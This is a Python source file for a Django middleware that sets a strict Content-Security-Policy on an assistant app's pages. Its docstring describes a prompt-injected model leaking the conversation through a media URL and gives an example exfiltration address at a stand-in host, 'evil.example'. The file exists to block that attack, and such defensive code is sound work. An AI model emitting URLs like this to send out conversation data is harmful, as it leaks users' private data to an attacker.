"""The Content-Security-Policy of Buddy's pages (README: Settings, BUDDY_MEDIA_HOSTS; docs/security.md).

The page is plain ES modules and a stylesheet from this site, with no inline script or style, so the
policy can be strict: nothing loads from elsewhere except canvas media from a BUDDY_MEDIA_HOSTS host.
That is what keeps a prompt-injected model from leaking the conversation through a media URL the
browser would fetch (`https://evil.example/?q=<secret>`): the canvas refuses such URLs, and if one
got through anyway, the browser would not load it.

The admin and the API docs are Django's and ninja's pages, with their own inline code: they get no
policy here.
"""

from __future__ import annotations

from collections.abc import Callable

from django.conf import settings
from django.core.exceptions import DisallowedHost
from django.http import HttpRequest, HttpResponse

EXEMPT_PREFIXES = ("/admin/", "/api/docs")


def content_security_policy(request: HttpRequest) -> str:
    media_sources = " ".join(f"https://{host}" for host in settings.BUDDY_MEDIA_HOSTS)
    # CSP3 lets 'self' cover the page's own ws(s) origin, but not every browser does yet.
    try:
        socket_origin = f"{'wss' if request.is_secure() else 'ws'}://{request.get_host()}"
    except DisallowedHost:  # the 400 page of a bad Host
        socket_origin = ""
    directives = {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "img-src": f"'self' {media_sources}".strip(),
        "media-src": f"'self' {media_sources}".strip(),
        "connect-src": f"'self' {socket_origin}".strip(),
        "font-src": "'self'",
        "manifest-src": "'self'",
        "base-uri": "'none'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
        "object-src": "'none'",
    }
    return "; ".join(f"{name} {value}" for name, value in directives.items())


class ContentSecurityPolicyMiddleware:
    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        response = self.get_response(request)
        is_html = response.get("Content-Type", "").startswith("text/html")
        if is_html and not request.path.startswith(EXEMPT_PREFIXES) and "Content-Security-Policy" not in response:
            response["Content-Security-Policy"] = content_security_policy(request)
        return response
